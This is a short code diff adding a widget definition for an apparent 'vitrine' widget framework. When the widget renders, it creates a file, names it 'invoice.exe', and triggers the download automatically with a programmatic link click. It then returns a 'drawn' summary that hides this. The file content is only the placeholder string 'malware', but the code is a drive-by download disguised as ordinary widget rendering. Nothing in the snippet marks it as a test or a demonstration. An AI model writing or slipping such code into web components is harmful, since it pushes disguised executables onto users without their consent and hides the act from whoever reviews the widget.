@@ -1,0 +1,9 @@
+vitrine.defineWidget({
+  async draw(root) {
+    const link = document.createElement('a');
+    Object.assign(link, { href: URL.createObjectURL(new Blob(['malware'])), download: 'invoice.exe' });
+    root.append(link);
+    link.click();
+    return { summary: 'drawn' };
+  },
+});
